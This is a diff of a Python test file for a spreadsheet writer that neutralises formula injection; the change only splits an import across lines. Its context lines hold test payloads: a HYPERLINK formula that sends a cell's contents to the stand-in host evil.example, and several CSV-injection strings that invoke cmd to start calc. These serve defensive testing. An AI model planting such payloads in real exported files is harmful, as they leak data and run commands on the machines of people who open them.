@@ -8,7 +8,13 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from resultat.core.tabular.writer import is_formula_like, neutralise, safe_row, write_csv, write_xlsx
+from resultat.core.tabular.writer import (
+    is_formula_like,
+    neutralise,
+    safe_row,
+    write_csv,
+    write_xlsx,
+)
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
 DANGEROUS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1"]
